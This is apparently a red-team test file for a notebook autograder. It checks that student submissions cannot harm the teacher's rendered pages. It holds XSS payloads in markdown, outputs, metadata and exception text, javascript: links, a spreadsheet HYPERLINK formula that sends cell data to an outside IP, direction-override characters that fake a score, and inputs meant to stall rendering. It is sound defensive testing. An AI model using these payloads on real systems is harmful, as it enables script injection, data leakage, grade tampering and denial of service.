"""Scripts and formulas for the pages that a teacher opens, and texts that take for ever to show."""

from __future__ import annotations

import base64

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from tests.redteam.attack import MOST, NOTHING, RIGHT, cell, family

pages = family("pages and tables")

SCRIPT = '<script>alert("stolen")</script>'
IMAGE = '<img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"click")'
HARMFUL = (SCRIPT, IMAGE, 'href="javascript:', 'onerror="alert(2)">', "<svg onload")


def markdown(notebook: NotebookNode) -> None:
    """Add markdown that holds scripts in every way."""
    links = "[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=)"
    links += " <a href='java&#115;cript:alert(1)'>c</a>"
    texts = [
        SCRIPT,
        IMAGE,
        links,
        "<svg onload=alert(1)>",
        "$\\href{javascript:alert(1)}{x}$",
        "```\n</textarea></script><script>alert(1)</script>\n```",
        "<!--",
        "<style>body{display:none}</style>",
    ]
    for number, text in enumerate(texts):
        notebook.cells.append(new_markdown_cell(text, id=f"text-{number}"))


def own_page(notebook: NotebookNode) -> None:
    """Link to a page that is handed in too: there it would run with the teacher's rights."""
    notebook.cells.append(new_markdown_cell("[my plot](evil.html) ![x](evil.svg)", id="link"))


def evil_page(folder: object, _: object) -> None:
    """Hand in the page."""
    (folder / "evil.html").write_text(SCRIPT)
    (folder / "evil.svg").write_text(f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>')


def outputs(notebook: NotebookNode) -> None:
    """Put scripts into saved outputs, attachments and metadata."""
    data = {
        "text/html": SCRIPT,
        "application/javascript": "alert(1)",
        "image/svg+xml": SCRIPT,
        "text/plain": SCRIPT,
        "image/png": base64.b64encode(b"<svg onload=alert(1)>").decode(),
    }
    saved = [
        new_output("display_data", data),
        new_output("stream", text=f"\x1b]0;x\x07{SCRIPT}"),
        new_output("error", ename=SCRIPT, evalue=IMAGE, traceback=[f"\x1b[31m{SCRIPT}"]),
    ]
    for name in ("halve", "quarter", "quarter-check"):
        cell(notebook, name).outputs = saved
    picture = new_markdown_cell("![x](attachment:x.svg)", id="picture")
    picture["attachments"] = {"x.svg": {"image/svg+xml": SCRIPT}}
    notebook.cells.append(picture)
    notebook.metadata["title"] = SCRIPT
    notebook.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": SCRIPT,
        "language": SCRIPT,
    }


def endless_formula(notebook: NotebookNode) -> None:
    """Markdown whose rendering takes time by the square of its length."""
    for number in range(4):
        text = "\\begin{a}" * 100_000
        notebook.cells.append(new_markdown_cell(text, id=f"formula-{number}"))


def endless_code(notebook: NotebookNode) -> None:
    """Code whose colouring takes time by the square of its length."""
    notebook.cells.append(new_code_cell("a." * 1_000_000 + "b", id="dots"))
    notebook.cells.append(new_code_cell("In [1]: a\n" * 100_000, id="prompts"))


ATTACKS = [
    pages(
        "script_in_exception",
        "raises an error whose type and text are scripts and colour codes",
        f"""
        def quarter(x):
            kind = type({SCRIPT!r}, (Exception,), {{}})
            raise kind({(SCRIPT + IMAGE)!r} + "\\x1b[2J\\x1b]0;x\\x07")
        """,
        forbidden=(*HARMFUL, "\x1b"),
    ),
    pages(
        "script_in_value",
        "returns texts and types whose names are scripts",
        f"""
        def quarter(x):
            return [type({SCRIPT!r}, (), {{}})(), {SCRIPT!r}, {{{IMAGE!r}: "</pre>"}}]
        """,
        forbidden=HARMFUL,
    ),
    pages(
        "formula_in_exception",
        "raises an error that is a formula in a spreadsheet",
        f"""
        def quarter(x):
            raise ValueError({FORMULA!r})
        """,
    ),
    pages(
        "turned_text",
        "marks of direction in an error, which turn what is read after it",
        """
        def quarter(x):
            raise ValueError("\\u202e\\u2066 stniop lla \\u2069 \\r 2 of 2 points \\b\\b")
        """,
        forbidden=("\u202e", "\u2066"),
    ),
    pages(
        "script_in_markdown",
        "markdown cells with scripts in every way",
        edit=markdown,
        deserves=MOST,
        forbidden=HARMFUL,
    ),
    pages(
        "script_in_outputs",
        "scripts in saved outputs, attachments and settings",
        edit=outputs,
        deserves=MOST,
        forbidden=HARMFUL,
    ),
    pages(
        "script_in_own_page",
        "a link to a page that is handed in too",
        edit=own_page,
        files=evil_page,
        deserves=MOST,
        forbidden=('href="evil.html',),
    ),
    pages(
        "endless_formula",
        "markdown that takes hours to show",
        edit=endless_formula,
        deserves=MOST,
        slow=True,
    ),
    pages(
        "endless_code",
        "code that takes hours to colour",
        edit=endless_code,
        deserves=MOST,
        slow=True,
    ),
    pages(
        "script_in_answer",
        "scripts in the text of the answers",
        answers={name: f"{text}\n# {SCRIPT}{IMAGE} ]]></pre>" for name, text in RIGHT.items()},
        deserves=MOST,
        edit=lambda notebook: None,
        forbidden=HARMFUL,
    ),
    pages(
        "script_in_cell_error",
        "a cell that fails with a script before anything is defined",
        answers=dict.fromkeys(RIGHT, f"raise ValueError({SCRIPT!r})"),
        deserves=NOTHING,
        forbidden=HARMFUL,
    ),
]
